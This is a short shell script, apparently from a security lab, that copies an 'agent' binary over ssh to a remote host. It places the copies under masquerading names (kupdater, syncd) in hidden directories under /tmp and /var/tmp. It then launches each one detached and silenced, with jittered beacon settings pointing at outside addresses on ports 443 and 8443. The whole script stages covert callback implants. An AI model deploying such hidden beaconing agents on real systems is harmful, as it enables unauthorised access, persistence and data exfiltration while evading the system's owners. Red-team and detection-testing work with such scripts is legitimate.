#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Puts the two senders where ordinary users can write and starts each from a shell script.
set -eu
drop() { # directory, name, arguments
  stage="$(mktemp -d)"
  cp /opt/lab/agent "$stage/$2"
  printf '#!/bin/sh\n%s >>%s 2>&1\nexit 0\n' "$1/$2 $3" "$1/log" >"$stage/start.sh"
  tar -C "$stage" -c . | ssh -b 198.51.100.40 deploy@192.0.2.10 \
    "mkdir -p $1 && tar -C $1 -xom && { setsid sh $1/start.sh </dev/null >/dev/null 2>&1 & }"
  rm -r "$stage"
}
drop /tmp/.kupd kupdater "-p 20 -j 0.2 -u 517 203.0.113.9:443"
drop /var/tmp/.sync syncd "-w -p 95 -j 0.5 -u 350000 198.51.100.7:8443"
